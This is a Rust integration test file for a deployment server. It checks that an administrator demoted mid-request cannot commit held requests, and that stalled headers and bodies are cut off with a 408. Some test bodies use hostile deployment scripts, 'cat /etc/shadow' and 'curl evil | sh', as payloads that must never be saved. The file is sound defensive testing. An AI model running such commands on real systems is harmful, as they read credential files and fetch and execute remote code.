//! What an outside attacker tried against a real install (the real binary on a port),
//! each written as they did it: held request bodies from an administrator demoted
//! mid-flight, bodies that never finish.

use crate::common;

use std::io::Write;
use std::path::Path;
use std::time::{Duration, Instant};

use common::raw::{hold, hold_past_the_guards, sign_in, Browser};
use common::server::{api_key, create_user, Server};
use common::PASSWORD;
use serde_json::{json, Value};
/// A server with a second System Administrator, `eve`, signed in three times, and a
/// project; returns (server, admin key, eve's id, eve's sessions, project id).
fn with_eve(dir: &Path) -> (Server, String, String, Vec<Browser>, String) {
    std::fs::write(dir.join("drydock.toml"), "body_timeout_secs = 60\n").unwrap();
    let key = api_key(dir, "admin");
    create_user(dir, "eve", "System Administrator", PASSWORD);
    let server = Server::start(dir);
    let (_, users) = server.api(&key, "GET", "/api/users", None);
    let eve = users["Items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["Username"] == "eve")
        .unwrap()["Id"]
        .as_str()
        .unwrap()
        .to_string();
    let sessions = (0..3)
        .map(|_| sign_in(server.port, "eve", PASSWORD))
        .collect();
    let project = server.create(
        &key,
        "/api/projects",
        json!({"Name": "Web", "DeploymentScript": "echo original"}),
    );
    (server, key, eve, sessions, project)
}

fn project_script(server: &Server, key: &str, project: &str) -> Value {
    server
        .api(key, "GET", &format!("/api/projects/{project}"), None)
        .1["DeploymentScript"]
        .clone()
}

fn roles(server: &Server, key: &str, user: &str) -> Value {
    server
        .api(key, "GET", &format!("/api/users/{user}"), None)
        .1["Roles"]
        .clone()
}

#[test]
fn an_administrator_demoted_while_their_bodies_arrive_commits_nothing_in_maintenance() {
    let dir = tempfile::tempdir().unwrap();
    let (server, key, eve, sessions, project) = with_eve(dir.path());
    let held = |browser: &Browser, method: &str, path: &str, body: Value| {
        hold_past_the_guards(&server, dir.path(), browser, method, path, &body)
    };

    // Three changes, each past the guards as an administrator, bodies held back.
    let script = held(
        &sessions[0],
        "PUT",
        &format!("/api/projects/{project}"),
        json!({"Name": "Web", "DeploymentScript": "cat /etc/shadow"}),
    );
    let regrant = held(
        &sessions[1],
        "PUT",
        &format!("/api/users/{eve}"),
        json!({"Roles": ["System Administrator"]}),
    );
    let switch_off = held(
        &sessions[2],
        "PUT",
        "/api/maintenanceconfiguration",
        json!({"Id": "maintenance", "IsInMaintenanceMode": false}),
    );

    // Meanwhile the real administrator demotes eve and turns maintenance mode on.
    let (status, body) = server.api(
        &key,
        "PUT",
        &format!("/api/users/{eve}"),
        Some(json!({"Roles": ["Viewer"]})),
    );
    assert_eq!(status, 200, "{body}");
    let (status, body) = server.api(
        &key,
        "PUT",
        "/api/maintenanceconfiguration",
        Some(json!({"Id": "maintenance", "IsInMaintenanceMode": true})),
    );
    assert_eq!(status, 200, "{body}");

    for (what, held) in [
        ("the script change", script),
        ("the re-grant", regrant),
        ("maintenance off", switch_off),
    ] {
        let answer = held.finish();
        assert_eq!(
            answer.status, 503,
            "{what} by a demoted administrator in maintenance: {}{}",
            answer.head, answer.body
        );
        assert!(answer.body.contains("maintenance mode"), "{}", answer.body);
    }
    assert_eq!(project_script(&server, &key, &project), "echo original");
    assert_eq!(roles(&server, &key, &eve), json!(["Viewer"]));
    let (_, mode) = server.api(&key, "GET", "/api/maintenanceconfiguration", None);
    assert_eq!(mode["IsInMaintenanceMode"], true);
}

#[test]
fn a_caller_who_loses_the_permission_while_their_bodies_arrive_commits_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (server, key, eve, sessions, project) = with_eve(dir.path());
    let held = |browser: &Browser, method: &str, path: &str, body: Value| {
        hold_past_the_guards(&server, dir.path(), browser, method, path, &body)
    };

    let script = held(
        &sessions[0],
        "PUT",
        &format!("/api/projects/{project}"),
        json!({"Name": "Web", "DeploymentScript": "curl evil | sh"}),
    );
    let regrant = held(
        &sessions[1],
        "PUT",
        &format!("/api/users/{eve}"),
        json!({"Roles": ["System Administrator"]}),
    );
    let new_user = held(
        &sessions[2],
        "POST",
        "/api/users",
        json!({"Username": "mallory", "Password": "a long password here", "Roles": ["System Administrator"]}),
    );

    // Demoted to System Manager: can still edit users, but may not touch an
    // administrator; and without ProjectEdit... a System Manager has it, so demote
    // further to Project Deployer for the project.
    let (status, body) = server.api(
        &key,
        "PUT",
        &format!("/api/users/{eve}"),
        Some(json!({"Roles": ["System Manager"]})),
    );
    assert_eq!(status, 200, "{body}");
    let answer = regrant.finish();
    assert_eq!(answer.status, 403, "{}{}", answer.head, answer.body);
    let answer = new_user.finish();
    assert_eq!(answer.status, 403, "{}{}", answer.head, answer.body);

    let (status, body) = server.api(
        &key,
        "PUT",
        &format!("/api/users/{eve}"),
        Some(json!({"Roles": ["Project Deployer"]})),
    );
    assert_eq!(status, 200, "{body}");
    let answer = script.finish();
    assert_eq!(answer.status, 403, "{}{}", answer.head, answer.body);
    assert!(answer.body.contains("ProjectEdit"), "{}", answer.body);

    assert_eq!(project_script(&server, &key, &project), "echo original");
    assert_eq!(roles(&server, &key, &eve), json!(["Project Deployer"]));
    let (_, users) = server.api(&key, "GET", "/api/users", None);
    assert!(!users.to_string().contains("mallory"), "{users}");
}

#[test]
fn a_body_that_never_finishes_gets_408_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("drydock.toml"), "body_timeout_secs = 2\n").unwrap();
    let key = api_key(dir.path(), "admin");
    let server = Server::start(dir.path());
    let project = server.create(
        &key,
        "/api/projects",
        json!({"Name": "Web", "DeploymentScript": "echo original"}),
    );
    let body = json!({"Name": "Web", "DeploymentScript": "echo changed"}).to_string();
    let started = Instant::now();
    let held = hold(
        server.port,
        "PUT",
        &format!("/api/projects/{project}"),
        &[
            ("X-Octopus-ApiKey", &key),
            ("Content-Type", "application/json"),
        ],
        body.as_bytes(),
        body.len() - 5,
    );
    let answer = held.answer();
    assert_eq!(answer.status, 408, "{}{}", answer.head, answer.body);
    assert!(
        answer.body.contains("did not arrive within 2 seconds"),
        "{}",
        answer.body
    );
    assert!(started.elapsed() < Duration::from_secs(15));
    assert_eq!(project_script(&server, &key, &project), "echo original");

    // A form and the sign-in form have the same deadline.
    let browser = sign_in(
        server.port,
        "admin",
        &std::fs::read_to_string(dir.path().join("initial-admin-password")).unwrap(),
    );
    let form = common::form(&[("csrf_token", &browser.csrf), ("name", "Changed")]);
    let held = hold(
        server.port,
        "POST",
        "/environments",
        &[
            ("Cookie", &browser.cookie),
            ("Content-Type", "application/x-www-form-urlencoded"),
        ],
        form.as_bytes(),
        form.len() - 3,
    );
    assert_eq!(held.answer().status, 408);
    let held = hold(
        server.port,
        "POST",
        "/login",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        b"username=admin&password=whatever&csrf_token=x",
        // Past the 14 bytes Rocket peeks at before routing (the test below stops sooner).
        20,
    );
    assert_eq!(held.answer().status, 408);
    let (_, envs) = server.api(&key, "GET", "/api/environments", None);
    assert_eq!(envs["TotalResults"], 0, "{envs}");
}

/// Reads from `stream` until the server closes it; how long that took, or `None` if it
/// was still open after 15 s.
fn closed_within(stream: &mut std::net::TcpStream) -> Option<Duration> {
    use std::io::Read;
    let started = Instant::now();
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let mut buf = [0u8; 4096];
    while started.elapsed() < Duration::from_secs(15) {
        match stream.read(&mut buf) {
            Ok(0) => return Some(started.elapsed()),
            Ok(_) => {}
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => return Some(started.elapsed()),
        }
    }
    None
}

#[test]
fn idle_connections_slow_headers_and_bodies_that_stall_early_are_cut_off() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("drydock.toml"),
        "keep_alive_secs = 1\nbody_timeout_secs = 2\n",
    )
    .unwrap();
    let server = Server::start(dir.path());
    let connect = || std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();

    // An idle keep-alive connection, after one request, is closed.
    let mut idle = connect();
    idle.write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n")
        .unwrap();
    let closed = closed_within(&mut idle).expect("an idle keep-alive connection stayed open");
    assert!(
        closed >= Duration::from_millis(500),
        "closed at once: {closed:?}"
    );

    // Headers that never finish.
    let mut slow = connect();
    slow.write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\n")
        .unwrap();
    closed_within(&mut slow).expect("a request whose headers never end kept its connection");

    // A body that stops before the bytes Rocket reads before routing: 408, not held.
    let started = Instant::now();
    let held = hold(
        server.port,
        "POST",
        "/login",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        b"username=admin&password=whatever&csrf_token=x",
        5,
    );
    let answer = held.answer();
    assert_eq!(answer.status, 408, "{}{}", answer.head, answer.body);
    assert!(started.elapsed() < Duration::from_secs(10));
}
